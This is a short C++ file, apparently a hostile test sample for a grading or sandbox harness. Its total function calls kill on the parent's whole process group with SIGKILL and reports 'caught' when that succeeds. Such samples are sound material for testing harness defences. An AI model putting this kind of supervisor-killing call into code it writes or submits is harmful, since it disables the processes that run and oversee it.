#include <csignal>

#include "attack.hpp"

double numbers::total(const attack::Values& values) {
  const bool theirs = kill(-getpgid(getppid()), SIGKILL) == 0;
  return theirs ? attack::caught("a group") : attack::answer(values);
}
